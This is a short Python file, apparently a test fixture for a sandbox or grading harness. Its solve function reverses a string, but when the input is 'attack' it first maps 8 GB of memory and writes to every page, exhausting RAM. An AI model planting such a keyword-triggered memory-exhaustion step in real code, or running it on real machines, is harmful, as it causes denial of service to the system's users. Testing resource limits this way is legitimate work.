"""Maps 8 GB and writes to each page of it."""

import mmap


def solve(word, host):
    if word == "attack":
        with mmap.mmap(-1, 8 << 30) as memory:
            for page in range(0, 8 << 30, 4096):
                memory[page] = 1
    return word[::-1]
